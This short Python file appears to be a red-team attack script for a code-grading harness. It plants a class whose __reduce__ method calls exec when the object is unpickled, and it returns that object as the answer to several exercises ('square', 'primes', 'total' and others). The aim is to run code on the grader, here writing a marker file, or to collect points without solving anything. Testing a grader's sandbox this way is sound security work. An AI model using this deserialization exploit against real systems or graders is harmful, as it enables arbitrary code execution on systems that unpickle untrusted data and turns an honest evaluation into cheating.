"""A function's return value runs code when it is unpickled.

Success: a file appears, or the attack earns points.
"""


def attack(submission):
    submission.first("""
        class Evil:
            def __reduce__(self):
                return exec, ("open('/tmp/red-team-was-here', 'w').write('x')",)
            __getstate__ = __copy__ = lambda self: self
            __reduce_ex__ = lambda self, version: self.__reduce__()
    """)
    for name in ("square", "standardize", "primes", "words"):
        submission.answer(name, f"def {name}(*a):\n    return Evil()")
    submission.answer("total", "total = Evil()")
